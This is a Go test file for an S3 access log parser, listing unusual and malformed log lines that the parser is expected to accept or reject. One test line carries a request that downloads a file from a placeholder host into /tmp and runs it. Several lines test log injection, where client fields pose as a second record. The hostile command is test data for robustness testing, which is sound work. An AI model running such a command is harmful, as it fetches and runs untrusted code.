package accesslog

import (
	"errors"
	"strings"
	"testing"
	"unicode/utf16"
)

// errAny expects a rejection for whatever reason.
var errAny = errors.New("any reason")

const (
	canon    = "c0ffee00112233445566778899aabbccddeeff00112233445566778899aabbcc"
	begin    = canon + " vault-7 [17/Nov/2025:23:59:59 +0000] "
	from     = begin + "198.51.100.24 "
	hostHard = "Zm9vYmFyMTIzNDU2Nzg5MA/qux+quux0=="
	tailHTTP = " - " + hostHard + " - - - vault-7.s3.eu-central-1.amazonaws.com - - - -" // anonymous, no TLS
	tailNow  = " - " + hostHard + " SigV4 TLS_AES_128_GCM_SHA256 AuthHeader vault-7.s3.eu-central-1.amazonaws.com TLSv1.3 - - eu-central-1"
	role     = "arn:aws:sts::444455556666:assumed-role/Copier/job-9"
	getOK    = role + ` 7Q0X REST.GET.OBJECT a/b.vbk "GET /a/b.vbk HTTP/1.1" 200 - 10 20 3 2 `
	nums     = ` 200 - 10 20 3 2 "-" "agent"`
)

func get(uri string) string {
	return from + role + ` 7Q0X REST.GET.OBJECT a/b.vbk ` + uri + nums + tailNow
}

func op(operation, rest string) string { return from + role + " 7Q0X " + operation + " " + rest }

type hardLine struct {
	name, line string
	reject     error // nil: a record; errTwoWays with want: either will do
	want       map[string]string
}

// hardLines are lines of our own in the spirit of what broke other parsers; the
// comment names the trouble and where it was seen.
var hardLines = []hardLine{
	// Operations.
	// operation of four words, UUID as request ID: elastic/integrations#20443
	{"four-part operation, job ID with hyphens", begin +
		`- AmazonS3 5b1f0c2e-7d4a-4e1b-9c33-0a9d1c2b3e4f S3.COMPUTE.OBJECT.CHECKSUM a/b.vbk "-" - - - 512 - - "-" "-" - ` + hostHard +
		" - - - - - - - -", nil,
		map[string]string{"Operation": `"S3.COMPUTE.OBJECT.CHECKSUM"`,
			"RequestID": `"5b1f0c2e-7d4a-4e1b-9c33-0a9d1c2b3e4f"`, "ObjectSize": "512", "Fields": "27"}},
	// two words, mixed case: elastic/integrations#20444
	{"two-part SOAP operation, HTTP/1.0", op("SOAP.CreateBucket", `- "POST /soap HTTP/1.0" 200 - 300 - 9 - "-" "Axis/1.9" -`), nil,
		map[string]string{"Operation": `"SOAP.CreateBucket"`, "RequestURI": `"POST /soap HTTP/1.0"`, "Key": "-", "Fields": "18"}},
	// SOAP with a verb: kerkdienstgemist logstash spec
	{"three-part SOAP operation", op("SOAP.PUT.OBJECT",
		`a "POST /soap/ HTTP/1.1" 200 - 797 686 63 31 "-" "Axis/1.9" -`), nil, map[string]string{"Operation": `"SOAP.PUT.OBJECT"`}},
	// second record of a copy: kerkdienstgemist logstash spec, AWS LogFormat "copy operations"
	{"source of a copy, all bare dashes, 18 fields", op("REST.COPY.OBJECT_GET", `a/b.vbk - 200 - - 13538 - - - - -`), nil,
		map[string]string{"Operation": `"REST.COPY.OBJECT_GET"`, "RequestURI": "-", "HTTPStatus": "200",
			"ObjectSize": "13538", "TotalTimeMS": "-1", "Fields": "18"}},
	// emulators of the log (find_string REST.COPY.PART_GET)
	{"source of a part copy", op("REST.COPY.PART_GET", `a/b.vbk - 206 - - 13538 - - - -`+tailNow), nil,
		map[string]string{"Operation": `"REST.COPY.PART_GET"`, "HTTPStatus": "206"}},
	// operation of no HTTP verb: AWS lifecycle logging page
	{"abort of a multipart upload by lifecycle", begin +
		`- AmazonS3 7Q0X S3.DELETE.UPLOAD a/b.vbk "-" - - - - - - "-" "-" - ` + hostHard + " - - - - -", nil,
		map[string]string{"Operation": `"S3.DELETE.UPLOAD"`, "RemoteIP": "-", "Fields": "24"}},
	// no address, version ID "null": logstash-patterns-core#249
	{"lifecycle with version ID null, 18 fields", begin +
		`- AmazonS3 7Q0X S3.TRANSITION.OBJECT a/b.vbk "-" - - - 694 - - "-" "-" null`, nil,
		map[string]string{"RemoteIP": "-", "VersionID": `"null"`, "ObjectSize": "694", "Fields": "18"}},
	// 26 fields, most of them dashes: allinurl/goaccess#2817
	{"lifecycle with dots in the version ID", begin +
		`- AmazonS3 7Q0X S3.EXPIRE.OBJECT a/b.vbk "-" - - - 1865 - - "-" "-" Zz9_a.KaaR.XZ ` + hostHard + " - - - - - - -", nil,
		map[string]string{"VersionID": `"Zz9_a.KaaR.XZ"`, "HostID": `"` + hostHard + `"`, "Fields": "26"}},
	// underscore inside: logstash-patterns-core#317
	{"transition to deep archive", begin +
		`- AmazonS3 7Q0X S3.TRANSITION_GDA.OBJECT a/b.vbk "-" - - - 5 - - "-" "-" - ` + hostHard + " - - - - - - -",
		nil, map[string]string{"Operation": `"S3.TRANSITION_GDA.OBJECT"`}},
	// verb unknown to many: catalystneuro/dandi_s3_log_parser _s3_log_line_parser.py list
	{"preflight", from +
		`- 7Q0X REST.OPTIONS.PREFLIGHT - "OPTIONS /vault-7 HTTP/1.1" 200 - - - 5 - "https://console.example/" "Mozilla/5.0"` + tailNow, nil,
		map[string]string{"Requester": "-", "Operation": `"REST.OPTIONS.PREFLIGHT"`}},
	// target that is no path: RFC 9112
	{"asterisk target", from + `- 7Q0X REST.OPTIONS.PREFLIGHT - "OPTIONS * HTTP/1.1" 400 BadRequest 300 - 5 - "-" "-"` + tailNow, nil,
		map[string]string{"RequestURI": `"OPTIONS * HTTP/1.1"`}},
	// 202: AWS
	{"restore", op("REST.POST.RESTORE", `a/b.vbk "POST /a/b.vbk?restore HTTP/1.1" 202 - - - 44 43 "-" "x"`+tailNow),
		nil, map[string]string{"HTTPStatus": "202", "Operation": `"REST.POST.RESTORE"`}},
	// own; the name of the operation is a guess
	{"select", op("REST.POST.OBJECT_SELECT",
		`a/b.csv "POST /a/b.csv?select&select-type=2 HTTP/1.1" 200 - 99 5000 12 11 "-" "x"`+tailNow), nil,
		map[string]string{"Operation": `"REST.POST.OBJECT_SELECT"`, "BytesSent": "99"}},
	// three underscored words
	{"multi-object delete, parent",
		op("REST.POST.MULTI_OBJECT_DELETE", `- "POST /?delete HTTP/1.1" 200 - 900 - 120 - "-" "x"`+tailNow), nil,
		map[string]string{"Key": "-", "Operation": `"REST.POST.MULTI_OBJECT_DELETE"`}},
	{"object lock", op("REST.GET.OBJECT_LOCK_CONFIGURATION",
		`- "GET /?object-lock HTTP/1.1" 404 ObjectLockConfigurationNotFoundError 300 - 12 - "-" "x"`+tailNow), nil,
		map[string]string{"ErrorCode": `"ObjectLockConfigurationNotFoundError"`}},
	// AWS: any field can be "-"
	{"operation unknown", op("-", `a/b.vbk "GET /a/b.vbk HTTP/1.1"`+nums+tailNow), nil,
		map[string]string{"Operation": "-", "Requester": `"` + role + `"`, "Key": `"a/b.vbk"`}},
	// AWS: any field can be "-"
	{"all that can be unknown", `- vault-7 [17/Nov/2025:23:59:59 +0000] - - - - - - - - - - - - - - - - - - - - - - - -`, nil,
		map[string]string{"BucketOwner": "-", "Operation": "-", "HTTPStatus": "-1", "Fields": "27"}},
	// a record must belong to one
	{"no bucket", `- - [17/Nov/2025:23:59:59 +0000] - - - - - - - - - - - - - - - - - - - - - - - -`, errBucket, nil},

	// Requesters.
	// PUT without an address: elastic/beats#26913
	{"service as requester, no address", begin +
		`- svc:delivery.logs.amazonaws.com 7Q0X REST.PUT.OBJECT AWSLogs/4/x.log.gz "PUT /AWSLogs/4/x.log.gz HTTP/1.1" 200 - - 773 103 13 "-" "-"` + tailNow, nil, map[string]string{"RemoteIP": "-", "Requester": `"svc:delivery.logs.amazonaws.com"`}},
	// narrow requester pattern: elastic/integrations#20442
	{"session name with every sign that is allowed", from +
		`arn:aws-us-gov:sts::444455556666:assumed-role/AWSReservedSSO_Ops_0f/a+b=c,d.e@f-g_h 7Q0X REST.GET.OBJECT a "GET /a HTTP/1.1"` +
		nums + tailNow, nil,
		map[string]string{"Requester": `"arn:aws-us-gov:sts::444455556666:assumed-role/AWSReservedSSO_Ops_0f/a+b=c,d.e@f-g_h"`}},
	// AWS developer guide of 2006-03-01
	{"Anonymous of 2006, URI without protocol, key with slash", canon +
		` vault-7 [04/Aug/2006:22:34:02 +0000] 198.51.100.24 Anonymous 7Q0X REST.GET.OBJECT /tapes/a.vbk "GET /vault-7/tapes/a.vbk?x-job=9" 200 - 26 34 70 10 "-" "curl/7.1" -`, nil,
		map[string]string{"Requester": `"Anonymous"`, "Key": `"/tapes/a.vbk"`, "RequestURI": `"GET /vault-7/tapes/a.vbk?x-job=9"`}},

	// Addresses.
	// scality/cloudserver#6020
	{"IPv4 in IPv6", begin + "::ffff:198.51.100.7 " + getOK + `"-" "x"` + tailNow, nil,
		map[string]string{"RemoteIP": `"::ffff:198.51.100.7"`}},
	// [0-9.:]+ for an address: siem-on-amazon-opensearch-service#46
	{"longest IPv6", begin + "2001:0db8:aaaa:bbbb:cccc:dddd:eeee:ffff " + getOK + `"-" "x"` + tailNow, nil,
		map[string]string{"RemoteIP": `"2001:0db8:aaaa:bbbb:cccc:dddd:eeee:ffff"`}},
	// same
	{"upper-case IPv6", begin + "2001:DB8::A " + getOK + `"-" "x"` + tailNow, nil, map[string]string{"RemoteIP": `"2001:DB8::A"`}},
	// gateway endpoint
	{"private address", begin + "10.32.219.38 " + getOK + `"-" "x"` + tailNow, nil, map[string]string{"RemoteIP": `"10.32.219.38"`}},
	{"IPv6 with a zone", begin + "fe80::1%eth0 " + getOK + `"-" "x"` + tailNow, errIP, nil}, // S3 writes no zone
	// redacted sample, own blog posts
	{"address made unreadable", begin + "xx.xx.41.39 " + getOK + `"-" "x"` + tailNow, errIP, nil},
	{"two addresses of a proxy", begin + "198.51.100.7, 10.0.0.1 " + getOK + `"-" "x"` + tailNow, errIP, nil}, // X-Forwarded-For

	// URIs.
	// cocoonlife/s3-log-parse#1
	{"quote at the end of the target", get(`"GET /" HTTP/1.1"`), nil,
		map[string]string{"RequestURI": `"GET /" HTTP/1.1"`, "HTTPStatus": "200"}},
	// dandi/s3-log-extraction, reduction_example_2
	{"quotes of a content disposition",
		get(`"GET /a/b.vbk?response-content-disposition=attachment;%20filename="b.vbk"&X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=ASIAEXAMPLE/20251117/eu-central-1/s3/aws4_request&X-Amz-Signature=00ff HTTP/1.1"`), nil,
		map[string]string{"RequestURI": `"GET /a/b.vbk?response-content-disposition=attachment;%20filename="b.vbk"&X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=ASIAEXAMPLE/20251117/eu-central-1/s3/aws4_request&X-Amz-Signature=00ff HTTP/1.1"`, "BytesSent": "10"}},
	// same
	{"quotes of a content disposition at the end", get(`"GET /a?filename="b.vbk" HTTP/1.1"`), nil,
		map[string]string{"RequestURI": `"GET /a?filename="b.vbk" HTTP/1.1"`}},
	// own
	{"quote and bracket of an ETag", get(`"GET /?list-type=2&etag="0123" [x] HTTP/1.1"`), nil,
		map[string]string{"RequestURI": `"GET /?list-type=2&etag="0123" [x] HTTP/1.1"`}},
	// elastic/integrations#3491
	{"spaces in the target", get(`"GET /shell?cd+/tmp;wget+ a.example/x;sh+/tmp/x HTTP/1.1"`), nil,
		map[string]string{"RequestURI": `"GET /shell?cd+/tmp;wget+ a.example/x;sh+/tmp/x HTTP/1.1"`}},
	// DataBiosphere/azul#5582
	{"bytes past ASCII in the target", get("\"HEAD /\xef\xbf\xbd\xc2\xbd\xc4\xbc\xff.vib HTTP/1.1\""), nil,
		map[string]string{"RequestURI": "\"HEAD /\xef\xbf\xbd\xc2\xbd\xc4\xbc\xff.vib HTTP/1.1\""}},
	// DataBiosphere/azul#4920
	{"Latin-1 byte in the user agent", from + getOK + "\"-\" \"caf\xe9 \xa2\"" + tailNow, nil,
		map[string]string{"UserAgent": "\"caf\xe9 \xa2\""}},
	// proxy form
	{"absolute target", get(`"GET http://vault-7.s3.amazonaws.com:80/a HTTP/1.1"`), nil,
		map[string]string{"RequestURI": `"GET http://vault-7.s3.amazonaws.com:80/a HTTP/1.1"`}},
	// empty request line: jwodder/apachelogs#1
	{"no target at all", get(`""`), nil, map[string]string{"RequestURI": `""`, "Key": `"a/b.vbk"`}},
	// kassner/log-parser#23
	{"TLS hello as the request", get("\"\x16\x03\x01\x02\x00\\x99\""), nil,
		map[string]string{"RequestURI": "\"\x16\x03\x01\x02\x00\\x99\""}},
	{"tab behind the method", get("\"GET\t/a HTTP/1.1\""), nil, map[string]string{"RequestURI": "\"GET\t/a HTTP/1.1\""}},
	{"method with a hyphen", get(`"M-SEARCH /a HTTP/1.1"`), nil, map[string]string{"RequestURI": `"M-SEARCH /a HTTP/1.1"`}},
	{"protocol of one digit", get(`"GET /a HTTP/2"`), nil, map[string]string{"RequestURI": `"GET /a HTTP/2"`}},
	// Azure-Sentinel#8372
	{"literal nulls in place of target and protocol", get(`"GET null null"`), nil, map[string]string{"RequestURI": `"GET null null"`}},
	// backslash is no escape in S3
	{"backslash before the closing quote of the target", get(`"GET /a\" HTTP/1.1"`), nil,
		map[string]string{"RequestURI": `"GET /a\" HTTP/1.1"`}},
	// injection: cocoonlife/s3-log-parse#1
	{"target that plays the numbers without a protocol", get(`"GET /a" 200 - 1 1 1 1 "-" HTTP/1.1"`), errTwoWays, nil},
	// 7 kB target
	{"long presigned target", get(`"GET /a?X-Amz-Security-Token=` + strings.Repeat("IQoJb3JpZ2lu%2B%2F", 400) +
		`&x-id=GetObject HTTP/1.1"`), nil, map[string]string{"HTTPStatus": "200"}},

	// Keys.
	// elastic/integrations s3access test log
	{"plus for a space in the key",
		op("BATCH.DELETE.OBJECT", `Night+run+at+9.08+PM.vbk - 204 - - 41207 - - - -`+tailNow), nil,
		map[string]string{"Key": `"Night+run+at+9.08+PM.vbk"`}},
	// cocoonlife/s3-log-parse#1
	{"key of an encoded quote and percent",
		op("REST.GET.OBJECT", `%2522%25%2525 "GET /%22%25 HTTP/1.1"`+nums+tailNow), nil, map[string]string{"Key": `"%2522%25%2525"`}},
	{"key that looks like an operation",
		op("REST.GET.OBJECT", `REST.PUT.OBJECT "GET /REST.PUT.OBJECT HTTP/1.1"`+nums+tailNow), nil,
		map[string]string{"Operation": `"REST.GET.OBJECT"`, "Key": `"REST.PUT.OBJECT"`}},
	{"key that looks like a request and numbers", op("REST.GET.OBJECT", `"GET 200 "GET /x HTTP/1.1"`+nums+tailNow),
		nil, map[string]string{"Key": `""GET 200"`, "RequestURI": `"GET /x HTTP/1.1"`}},

	// Numbers.
	// int32 sizes
	{"part of an object larger than 4 GiB", from + role +
		` 7Q0X REST.GET.OBJECT a "GET /a HTTP/1.1" 206 - 6854150 5497558138880 2147483647 89 "-" "x"` + tailNow, nil,
		map[string]string{"ObjectSize": "5497558138880", "TotalTimeMS": "2147483647"}},
	{"largest int64", from + role +
		` 7Q0X REST.GET.OBJECT a "GET /a HTTP/1.1" 200 - 9223372036854775807 0 0 0 "-" "x"` + tailNow, nil,
		map[string]string{"BytesSent": "9223372036854775807", "ObjectSize": "0"}},
	// kerkdienstgemist logstash spec
	{"not modified", from + role + ` 7Q0X REST.GET.OBJECT a "GET /a HTTP/1.1" 304 - - 10750830 11 - "-" "x"` +
		tailNow, nil, map[string]string{"HTTPStatus": "304", "BytesSent": "-1", "TurnAroundTimeMS": "-1"}},
	{"client went away", from + role + ` 7Q0X REST.PUT.OBJECT a "PUT /a HTTP/1.1" 499 ClientClosed - - 11 - "-" "x"` +
		tailNow, nil, map[string]string{"HTTPStatus": "499"}},
	// elastic/integrations#13486
	{"status unknown for a request that is known", from + role +
		` 7Q0X REST.PUT.OBJECT a "PUT /a HTTP/1.1" - - - 773 103 13 "-" "x"` + tailNow, nil,
		map[string]string{"HTTPStatus": "-1", "RequestURI": `"PUT /a HTTP/1.1"`}},
	{"status 0", strings.Replace(from+getOK, `" 200 `, `" 0 `, 1) + `"-" "x"` + tailNow, errStatus, nil},
	{"status 000", strings.Replace(from+getOK, `" 200 `, `" 000 `, 1) + `"-" "x"` + tailNow, errStatus, nil},
	{"size -1", strings.Replace(from+getOK, ` 10 20 `, ` -1 20 `, 1) + `"-" "x"` + tailNow, errNumber, nil}, // ELB writes -1
	{"time with a fraction", strings.Replace(from+getOK, ` 3 2 `, ` 0.003 2 `, 1) + `"-" "x"` + tailNow, errNumber, nil},
	{"size with a plus", strings.Replace(from+getOK, ` 10 20 `, ` +10 20 `, 1) + `"-" "x"` + tailNow, errNumber, nil},
	{"size in other digits", strings.Replace(from+getOK, ` 10 20 `, " ١٠ 20 ", 1) + `"-" "x"` + tailNow, errNumber, nil},

	// Times.
	{"leading zeros", strings.Replace(from+getOK, ` 10 20 `, ` 0010 20 `, 1) + `"-" "x"` + tailNow, nil,
		map[string]string{"BytesSent": "10"}},
	{"fraction of a second", strings.Replace(from+getOK+`"-" "x"`+tailNow, ":59 +0000]", ":59.123 +0000]", 1), errTime, nil},
	{"day of one digit", strings.Replace(from+getOK+`"-" "x"`+tailNow, "[17/", "[7/", 1), errTime, nil},
	// locale: allinurl/goaccess#1563
	{"month of another language", strings.Replace(from+getOK+`"-" "x"`+tailNow, "Nov", "nov", 1), errTime, nil},
	{"hour 24", strings.Replace(from+getOK+`"-" "x"`+tailNow, ":23:59:59", ":24:00:00", 1), errTime, nil},
	{"time unknown", strings.Replace(from+getOK+`"-" "x"`+tailNow, "[17/Nov/2025:23:59:59 +0000]", "-", 1), errTime, nil},
	// Azure-Sentinel#8372
	{"another offset", strings.Replace(from+getOK+`"-" "x"`+tailNow, "+0000", "-0730", 1), nil,
		map[string]string{"TimeMS": "1763450999000"}},

	// Referers and user agents.
	// leap second
	{"leap second", strings.Replace(from+getOK+`"-" "x"`+tailNow, ":59 +0000", ":60 +0000", 1), nil,
		map[string]string{"TimeMS": "1763424000000"}},
	// siem-on-amazon-opensearch-service#34
	{"user agent that ends in a quote", from + getOK + `"https://example,com/x" "Mozilla/5.0 (iPad) Safari/604.1""` +
		tailNow, nil, map[string]string{"Referer": `"https://example,com/x"`, "UserAgent": `"Mozilla/5.0 (iPad) Safari/604.1""`}},
	// fluent/fluentd#2841
	{"user agent in quotes of its own", from + getOK + `"-" ""Mozilla/5.0 (iPhone)""` + tailNow, nil,
		map[string]string{"UserAgent": `""Mozilla/5.0 (iPhone)""`}},
	// kerkdienstgemist logstash spec
	{"referer that ends in a quote", from + getOK + `"http://r.example/?id=452"" "Mozilla/5.0"` + tailNow, nil,
		map[string]string{"Referer": `"http://r.example/?id=452""`, "UserAgent": `"Mozilla/5.0"`}},
	// fluent/fluent-bit#566
	{"inch sign in the user agent", from + getOK + `"-" "Dalvik/2.1.0 (Linux; Alba 10" Build/LMY)"` + tailNow, nil,
		map[string]string{"UserAgent": `"Dalvik/2.1.0 (Linux; Alba 10" Build/LMY)"`}},
	{"user agent of one quote", from + getOK + `"-" """` + tailNow, nil, map[string]string{"UserAgent": `"""`}},
	{"referer of one quote", from + getOK + `""" "x"` + tailNow, nil, map[string]string{"Referer": `"""`, "UserAgent": `"x"`}},
	{"user agent of one space", from + getOK + `"-" " "` + tailNow, nil, map[string]string{"UserAgent": `" "`}},
	// cocoonlife/s3-log-parse#1
	{"referer of words and quotes", from + getOK + `"a "b c" d" "x"` + tailNow, nil,
		map[string]string{"Referer": `"a "b c" d"`, "UserAgent": `"x"`}},
	// backslash is no escape in S3
	{"backslash at the end of the user agent", from + getOK + `"-" "C:\agent\"` + tailNow, nil,
		map[string]string{"UserAgent": `"C:\agent\"`}},
	// str.splitlines; winebarrel/fluent-plugin-elb-access-log#7
	{"other line ends in the user agent", from + getOK + "\"-\" \"a\rb\x0bc\x0cd\u2028e\u0085f\"" + tailNow, nil,
		map[string]string{"UserAgent": "\"a\rb\x0bc\x0cd\u2028e\u0085f\""}},
	{"bare dash between quotes of an 18-field line", from + getOK + `"-" "a" - "b" -`, nil,
		map[string]string{"UserAgent": `"a" - "b"`, "VersionID": "-", "Fields": "18"}},
	// amazon-s3-developer-guide#14
	{"unknown referer and user agent, unquoted, whole tail", from + getOK + `- -` + tailNow, nil,
		map[string]string{"Referer": "-", "UserAgent": "-", "SourceRegion": `"eu-central-1"`}},

	// Tails.
	// kerkdienstgemist logstash spec
	{"anonymous over plain HTTP", from +
		`- 7Q0X REST.GET.OBJECT a.png "GET /a.png HTTP/1.1" 403 AccessDenied 243 - 4 - "-" "x" - ` + hostHard +
		" - - - media.example -", nil,
		map[string]string{"SignatureVersion": "-", "HostHeader": `"media.example"`, "TLSVersion": "-", "Fields": "24"}},
	// dandi/s3-log-extraction example_logs
	{"TLS but anonymous", from + `- 7Q0X REST.GET.OBJECT a "GET /a HTTP/1.1" 200 - 9 9 4 3 "-" "x" - ` + hostHard +
		" - ECDHE-RSA-AES128-GCM-SHA256 - vault-7.s3.amazonaws.com TLSv1.2 -", nil,
		map[string]string{"SignatureVersion": "-", "AuthenticationType": "-", "Fields": "25"}},
	// scality/cloudserver#6020
	{"host with a port, old SSL", from + getOK + `"-" "x" - ` + hostHard +
		" SigV2 RC4-MD5 QueryString 127.0.0.1:8000 SSLv3", nil,
		map[string]string{"HostHeader": `"127.0.0.1:8000"`, "TLSVersion": `"SSLv3"`}},
	{"host in brackets", from + getOK + `"-" "x" - ` + hostHard +
		" SigV4 ECDHE AuthHeader [2001:db8::1]:443 TLSv1 - - -", nil,
		map[string]string{"HostHeader": `"[2001:db8::1]:443"`, "TLSVersion": `"TLSv1"`}},
	{"asymmetric signature through a multi-region access point", from + getOK + `"-" "x" - ` + hostHard +
		" SigV4A TLS_AES_256_GCM_SHA384 AuthHeader mfzw.mrap.accesspoint.s3-global.amazonaws.com TLSv1.3 " +
		"arn:aws:s3::444455556666:accesspoint/mfzw.mrap - ap-southeast-5", nil,
		map[string]string{"SignatureVersion": `"SigV4A"`, "AccessPointARN": `"arn:aws:s3::444455556666:accesspoint/mfzw.mrap"`}},
	{"Object Lambda access point", from + getOK + `"-" "x" - ` + hostHard +
		" SigV4 T AuthHeader h TLSv1.2 arn:aws-cn:s3-object-lambda:cn-north-1:444455556666:accesspoint/olap Yes cn-north-1", nil,
		map[string]string{"ACLRequired": `"Yes"`, "SourceRegion": `"cn-north-1"`}},
	// own
	{"region of a partition", from + getOK + `"-" "x" - ` + hostHard +
		" SigV4 T AuthHeader h TLSv1.2 - - us-isob-east-1", nil, map[string]string{"SourceRegion": `"us-isob-east-1"`}},
	{"version ID of the S3 user guide", from + getOK +
		`"-" "x" 3/L4kqtJlcpXroDTDmJ+rmSpXd3dIbrHY+MTRCxf3vjVBH40Nr8X8gdRQBpUMLUo` + tailNow[2:], nil,
		map[string]string{"VersionID": `"3/L4kqtJlcpXroDTDmJ+rmSpXd3dIbrHY+MTRCxf3vjVBH40Nr8X8gdRQBpUMLUo"`}},
	// opentelemetry-collector-contrib#47149
	{"a field of the future", from + getOK + `"-" "x"` + tailNow + " -", nil,
		map[string]string{"SourceRegion": `"eu-central-1"`, "Extra": `"-"`, "Fields": "28"}},
	{"19 fields", from + getOK + `"-" "x" - ` + hostHard, errTail, nil},                 // awsdocs/amazon-s3-developer-guide#94
	{"18 fields and words", from + getOK + `"-" "x" - more words follow`, errTail, nil}, // kerkdienstgemist logstash spec
	// glamp/s3-log-analyzer; AWS developer guide of 2006
	{"17 fields, of before versioning", from + getOK + `"-" "x"`, errTail, nil},
	{"trailing spaces", from + getOK + `"-" "x"` + tailNow + "   \r", nil,
		map[string]string{"SourceRegion": `"eu-central-1"`, "Fields": "27"}},
	{"two spaces in the tail", strings.Replace(from+getOK+`"-" "x"`+tailNow, " SigV4", "  SigV4", 1), errTail, nil},
	{"two spaces in the numbers", strings.Replace(from+getOK+`"-" "x"`+tailNow, " 10 20", " 10  20", 1), errNumber, nil},
	{"space at the beginning", " " + from + getOK + `"-" "x"` + tailNow, errTime, nil},

	// Not S3 text lines.
	{"tabs in place of spaces", strings.ReplaceAll(from+getOK+`"-" "x"`+tailNow, " ", "\t"), errTime, nil},
	{"CSV of Athena", `"` + strings.ReplaceAll(from+getOK+`-`, " ", `","`) + `"`, errTime, nil},
	{"line behind a syslog header", "<134>Nov 17 23:59:59 relay s3: " + from + getOK + `"-" "x"` + tailNow, errTime, nil},
	// logstash-patterns-core#306
	{"CloudFront heading", "#Version: 1.0", errTime, nil},
	// allinurl/goaccess#408
	{"CloudFront record", "2025-11-17\t23:59:59\tFRA56-P1\t392\t198.51.100.24\tGET\td0.cloudfront.net\t/a\t200\t-\tcurl/8\t-\t-\tHit",
		errTime, nil},
	// elastic/beats#14020
	{"load balancer record", `https 2025-11-17T23:59:59.000000Z app/x/1 198.51.100.24:4000 - -1 -1 -1 400 - 0 0 "- http://x:80- -" "-" - -`,
		errTime, nil},
	// AWS sal-cw-log-format
	{"JSON of CloudWatch", `{"schema_version_id":"V_1_0","bucket_name":"vault-7","operation":"REST.GET.OBJECT"}`, errTime, nil},
}

// decided are lines that two readers could read in two ways. Where the client's
// text could stand for fields of the server the line is refused; where only its
// own text is concerned the first border decides.
var decided = []hardLine{
	{"whole line in quotes", `"` + from + getOK + `"-" "x"` + tailNow + `"`, errAny, nil}, // allinurl/goaccess#2198
	// injection: cocoonlife/s3-log-parse#1
	{"lower-case method, user agent that plays a request", from + role +
		` 7Q0X REST.GET.OBJECT real "get /real" 405 MethodNotAllowed 300 - 1 - "-" "x "GET /fake HTTP/1.1" 200 - 9 9 9 9 "-" "y"` + tailNow,
		errTwoWays,
		map[string]string{"Key": `"real"`, "RequestURI": `"get /real"`, "HTTPStatus": "405"}},
	{"tab behind the method, referer that plays a request", from + role +
		" 7Q0X REST.DELETE.OBJECT real \"DELETE\t/real HTTP/1.1\" 204 - - 9 1 - \"x \"GET /fake HTTP/1.1\" 403 " +
		"AccessDenied 9 9 9 9 \"-\" \"y\"" + tailNow, errTwoWays,
		map[string]string{"Key": `"real"`, "HTTPStatus": "204"}},
	{"empty request line, user agent that plays a request", from + role +
		` 7Q0X REST.GET.OBJECT real "" 400 BadRequest 300 - 1 - "-" "x "GET /fake HTTP/1.1" 200 - 9 9 9 9 "-" "y"` + tailNow, errTwoWays,
		map[string]string{"Key": `"real"`, "RequestURI": `""`, "HTTPStatus": "400"}},
	{"status out of range, user agent that plays a request", from + role +
		` 7Q0X REST.GET.OBJECT real "GET /real HTTP/1.1" 0 - 300 - 1 - "-" "x "GET /fake HTTP/1.1" 200 - 9 9 9 9 "-" "y"` + tailNow,
		errStatus, nil},
	{"two spaces behind the requester", strings.Replace(from+getOK+`"-" "x"`+tailNow, role+" ", role+"  ", 1), errAny, nil},
	{"two spaces before the requester", strings.Replace(from+getOK+`"-" "x"`+tailNow, " "+role, "  "+role, 1), errAny, nil},
	{"two spaces before the URI", strings.Replace(from+getOK+`"-" "x"`+tailNow, ` "GET`, `  "GET`, 1), errAny, nil},
	{"two spaces in place of the key, no method", from + role + ` 7Q0X REST.GET.OBJECT  "get /a"` + nums + tailNow, errKey, nil},
	{"two spaces before the key", strings.Replace(from+getOK+`"-" "x"`+tailNow, ` a/b.vbk "`, `  a/b.vbk "`, 1), errAny, nil},
	{"address with a port", begin + "198.51.100.7:51544 " + getOK + `"-" "x"` + tailNow, errIP, nil}, // allinurl/goaccess#2719 (not S3)
	{"address of no format", begin + "dead.beef.cafe " + getOK + `"-" "x"` + tailNow, errIP, nil},
	{"address with a block too many", begin + "1.2.3.4.5 " + getOK + `"-" "x"` + tailNow, errIP, nil},
	{"tab at the end", from + getOK + `"-" "x"` + tailNow + "\t", errTail, nil},
	{"NUL at the end", from + getOK + `"-" "x"` + tailNow + "\x00\x00", errAny, nil},
	// ambiguous in itself
	{"object named -", op("REST.PUT.OBJECT", `- "PUT /- HTTP/1.1"`+nums+tailNow), nil, map[string]string{"Key": "-"}},
	// amazon-s3-developer-guide#14 says of any field
	{"quoted dash as the error code", from + role +
		` 7Q0X REST.GET.OBJECT a "GET /a HTTP/1.1" 200 "-" 10 20 3 2 "-" "x"` + tailNow, nil, map[string]string{"ErrorCode": `""-""`}},
	{"quoted dash as the version ID", from + getOK + `"-" "x" "-"` + tailNow[2:], errTail, nil},
	{"quote in the version ID, plain HTTP", from + getOK + `"-" "x" v"` + tailHTTP[2:], errAny, nil}, // versionId is the client's
	{"quote in the host of a 24-field line", from + getOK + `"-" "x" - ` + hostHard + ` SigV4 T AuthHeader h" TLSv1.2`, errTwoWays, nil},
	{"two records in one line, the second without quotes", from + getOK + `"-" "x"` + tailNow + begin +
		`- AmazonS3 7Q0X S3.EXPIRE.OBJECT k - - - - 5 - - - - - ` + hostHard + " - - - - - - - -", errAny, nil},
	// ambiguous in itself
	{"referer that holds the border", from + getOK + `"a" "b" "x"` + tailNow, nil,
		map[string]string{"Referer": `"a"`, "UserAgent": `"b" "x"`}},
	// ambiguous in itself
	{"target that plays a whole record", get(`"GET /a HTTP/1.1" 200 - 1 1 1 1 "-" "x HTTP/1.1"`), nil,
		map[string]string{"RequestURI": `"GET /a HTTP/1.1"`, "BytesSent": "1"}},
	{"year 0000", strings.Replace(from+getOK+`"-" "x"`+tailNow, "2025", "0000", 1), errTime, nil},
	{"operation with a hyphen", op("REST.GET.OBJECT-LAMBDA", `a "GET /a HTTP/1.1"`+nums+tailNow), errOperation, nil},
	{"operation of one word", op("CreateSession", `- "GET /?session HTTP/1.1"`+nums+tailNow), errOperation, nil},
	{"time of the request past 24 days", strings.Replace(from+getOK, ` 3 2 `, ` 2592000000 2 `, 1) + `"-" "x"` + tailNow, errNumber, nil},
}

func checkHard(t *testing.T, tests []hardLine) {
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var r Record
			err := Parse([]byte(tt.line), &r)
			switch {
			case tt.reject == errTwoWays && tt.want != nil && err == nil:
			case tt.reject == nil && err != nil:
				t.Fatalf("rejected: %v", err)
			case tt.reject == errAny && err == nil, tt.reject != nil && tt.reject != errAny && !errors.Is(err, tt.reject):
				t.Fatalf("got %v, want rejection %q; record %v", err, tt.reject, fields(r))
			case err != nil:
